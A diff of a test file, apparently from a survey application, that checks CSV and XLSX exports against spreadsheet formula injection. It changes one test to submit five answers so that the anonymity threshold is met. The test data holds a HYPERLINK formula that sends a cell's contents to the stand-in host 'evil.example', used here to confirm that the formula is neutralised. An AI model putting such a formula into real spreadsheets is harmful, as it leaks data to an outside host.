@@ -248,10 +248,14 @@ describe("cells a spreadsheet would run as formulas", () => {
 
   test("a respondent's formula reaches CSV and XLSX as text with a leading apostrophe", async () => {
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
-    await store.campaigns.addCodes(staffCampaign, "TH-MC", "staff", ["EXPFORMULA1"], clock.now());
+    // Five answers: a school's figures and rows change only by batches of the anonymity threshold.
+    const codes = [1, 2, 3, 4, 5].map((i) => `EXPFORMULA${i}`);
+    await store.campaigns.addCodes(staffCampaign, "TH-MC", "staff", codes, clock.now());
     const answers = { ...allRatings(staffForm, 3), suggestions: formula };
-    const sentRes = await postJson(app, "/api/a/EXPFORMULA1/responses", { answers, clientId: "formula-1" });
-    expect(sentRes.status).toBe(201);
+    for (const code of codes) {
+      const sentRes = await postJson(app, `/api/a/${code}/responses`, { answers, clientId: `f-${code}` });
+      expect(sentRes.status).toBe(201);
+    }
     const text = await (await download(manager, staffCampaign, "csv", "XA")).text();
     const [header = [], ...rows] = parseCsv(text.replace(/^\uFEFF/, "")).filter((r) => r.length > 1);
     const cells = rows.map((r) => r[header.indexOf("suggestions")]);
